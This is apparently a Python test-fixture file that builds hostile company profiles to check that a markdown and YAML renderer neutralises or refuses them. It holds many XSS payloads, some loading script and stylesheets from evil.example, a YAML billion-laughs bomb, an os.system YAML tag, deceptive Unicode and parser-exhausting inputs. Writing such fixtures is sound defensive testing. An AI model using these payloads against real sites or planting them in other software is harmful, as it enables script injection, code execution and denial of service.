"""Profiles written to do harm: to the reader's browser, to the build, or to the page around them.

Every profile tells of `wage`, so that one search finds all of them. What runs in a browser sets `window.harmed`.
"""

RUN = "window.harmed=1;alert(1)"

STACK = "\u0301\u0316" * 400 + " a" + "\u20dd" * 300 + " " + "\u0e49" * 300

_SCRIPTS = f"""\
<script>{RUN}</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>{RUN}</scr</script>ipt>
<svg><script>{RUN}</script></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<object data="data:text/html,<script>{RUN}</script>"></object><embed src=javascript:{RUN}>
<template><script>{RUN}</script></template>
<style>@import'//evil.example/x.css'; * {{ background: url(javascript:{RUN}) }}</style>
<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:{RUN}">
<!--><script>{RUN}</script-->
<![CDATA[<script>{RUN}</script>]]>
</article></main></body></html><script>{RUN}</script>

```html
<script>{RUN}</script>
```

    <script>{RUN}</script>

The wage is `<script>{RUN}</script>` high.
"""

_HANDLERS = f"""\
<img src=x onerror={RUN}> <img src=x:x onerror="{RUN}"> <svg onload={RUN}> <body onload={RUN}>
<details open ontoggle={RUN}>x</details> <input autofocus onfocus={RUN}> <select autofocus onfocus={RUN}></select>
<video><source onerror={RUN}></video> <audio src=x onerror={RUN}></audio> <marquee onstart={RUN}>x</marquee>
<p onclick={RUN} onmouseover={RUN} onpointerenter={RUN} style="position:fixed;inset:0">wage</p>
<a href="#x" onfocus={RUN} autofocus tabindex=1>x</a> <p contenteditable onbeforeinput={RUN}>x</p>
<svg><animate onbegin={RUN} attributeName=x dur=1s></svg> <svg><set onend={RUN}></svg>
<p/onclick={RUN}>x</p> <p class="x"onclick={RUN}>x</p> <p title='"'onclick={RUN}>x</p>
"""

_LINKS = f"""\
[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](&#106;avascript:{RUN}) [d](java&Tab;script:{RUN})
[e](data:text/html,<script>{RUN}</script>) [f](vbscript:x) [g]( javascript:{RUN}) [h](\x01javascript:{RUN})
[i](//evil.example/) [j](file:///etc/passwd) [k](blob:https://a.example/x) <javascript:{RUN}>
<a href=javascript:{RUN}>l</a> <a href="java\nscript:{RUN}">m</a> <a href=" &#1; javascript:{RUN}">n</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">o</a> <a xlink:href=javascript:{RUN}>p</a>
<form action=javascript:{RUN}><button formaction=javascript:{RUN}>wage</button></form>
![q](javascript:{RUN}) ![r](data:image/svg+xml,<svg/onload={RUN}>) ![s](https://evil.example/pixel.gif)
[t][x] [u][y] <a href=https://a.example target=_blank ping=//evil.example>v</a> <a href="javascript&colon;{RUN}">w</a>

[x]: javascript:{RUN}
[y]: <data:text/html,{RUN}> "title"
"""

_IDS = f"""\
<p id="q">wage</p><p id="q">twice</p><p id="search-box">x</p><p id="page-main">x</p><p id="overview">x</p>
<a name="forms" id="forms">x</a><img id="document" name="body"><form id="search-form" name="cookie"></form>
<p id="x onclick={RUN}">x</p><p id='"><script>{RUN}</script>'>x</p><p id="">x</p><p id=" ">x</p>
<p id="__proto__">x</p><p id="constructor">x</p><p class="hit top wide skip">x</p>

[to q](#q) [to overview](#overview) [to nothing](#) [to script](#"><script>{RUN}</script>)

Note[^1], note[^1], note[^"><b>].

[^1]: <script>{RUN}</script> wage
[^"><b>]: x
"""

_MARKS = f"""\
The wage is \u202e001$ ton\u202c so. \u2066\u2067\u2068 never closed \u202a\u202b\u202d
w\u200ba\u200bg\u200be w\u00adage wa\u2060ge \ufeffwage \u061c\u200e\u200f \u2028 \u2029 \x85
\u034f\u115f\u1160\u17b4\u17b5\u180e\u3164\uffa0 \U000e0041\U000e0042 \ufe0f\ufe0e
\ufdfd\ufdfd \U00012031\U00012031 Z{STACK}
"""


def profile(company: str, body: str, *facts: str) -> str:
    """A profile whose front matter is sound."""
    front = "\n".join([f"company: {company}", "specialties: [Text]", "last_verified: 2026-01-29", *facts])
    return f"---\n{front}\n---\n## Overview\nIts wage is known.\n\n## Compensation\n{body}\n"


def _nested(item: str, depth: int) -> str:
    return "\n".join("    " * level + item for level in range(depth))


HARMLESS_IN_THE_END = {
    "scripts": profile("Scripts", _SCRIPTS),
    "handlers": profile("Handlers", _HANDLERS),
    "links": profile("Links", _LINKS),
    "ids": profile("Ids", _IDS),
    "marks": profile("Marks", _MARKS),
    "names": profile(
        f"'\"<script>{RUN}</script>'", "A wage.",
        f"headquarters: '<img src=x onerror={RUN}>'", f"specialization: '\"><svg onload={RUN}>'",
        f"service_type: '<b onclick={RUN}>x</b>{{{{7*7}}}}'",
    ),
    "headings": profile("Headings", "### A wage\n" * 1_000),
    "own-headings": profile(
        "Own", f"A.\n\n## <script>{RUN}</script>\nA wage.\n\n## \"><img src=x onerror={RUN}>\nA wage.\n\n"
        f"## [x](javascript:{RUN})\nA wage.\n\n## q\nA wage.\n\n## __proto__\nA wage.\n\n## Page main\nA wage.",
    ),
    "wide-table": profile(
        "Wide Table", "|" + " wage |" * 500 + "\n|" + " - |" * 500 + ("\n|" + " 1 |" * 500) * 20
    ),
    "long-table": profile("Long Table", "| a | b |\n|---|---|\n" + "| wage | [x](javascript:x) |\n" * 1_000),
    "long-word": profile("Long Word", "wage " + "w" * 200_000),
    "many-words": profile("Many Words", "\n\n".join("wage" + f" word{n:x}" * 10 for n in range(3_000))),
    "quotes": profile("Quotes", "> " * 30 + "A wage."),
    "lists": profile("Lists", _nested("- wage", 15)),
    "entities": profile("Entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#x110000; wage" + " &nbsp;" * 200),
    "unclosed": profile("Unclosed", "<div><p><b><i><a href='https://a.example\n\n```\n~~~\n<!-- wage"),
}  # fmt: skip
"""Taken: what is hostile in them must end as text."""

_BOMB = "\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9))]
)

REFUSED = {
    "yaml-bomb": profile("Bomb", "A wage.", *_BOMB.split("\n")),
    "yaml-merge": profile("Merge", "A wage.", "x: &x {a: b}", "y: {<<: *x}"),
    "yaml-tag": profile("Tag", "A wage.", "founded: !!python/object/apply:os.system ['touch harmed']"),
    "yaml-deep": profile("Deep", "A wage.", "x: " + "[" * 5_000 + "]" * 5_000),
    "yaml-long": profile("Long", "A wage.", *(f"key{n}: value" for n in range(20_000))),
    "yaml-keys": profile("Keys", "A wage.", "company: Twice"),
    "many-headings": profile("Many Headings", "### A wage\n" * 10_000),
    "many-rows": profile("Many Rows", "| a | b |\n|---|---|\n" + "| wage | <b>x</b> |\n" * 10_000),
    "many-sections": profile("Sections", "A wage.\n\n" + "## Another\nA wage.\n\n" * 10_000),
    "same-sections": profile("Same", "A wage.\n\n## Overview\nAgain.\n"),
    "brackets": profile("Brackets", "wage " + "[" * 30_000),
    "links-open": profile("Links Open", "wage " + "[a](" * 20_000),
    "cdata": profile("Cdata", "wage " + "<![CDATA[" * 5_000),
    "numbers": profile("Numbers", "1. " * 3_000 + "wage"),
    "deep-lists": profile("Deep Lists", _nested("- wage", 200)),
    "deep-quotes": profile("Deep Quotes", "> " * 3_000 + "wage"),
    "stars": profile("Stars", "wage " + "*a_" * 60_000),
    "too-large": profile("Too Large", "wage " * 220_000),
    "nul": profile("Nul", "wage \0 wage"),
}
"""Refused, each with its own line, and soon."""
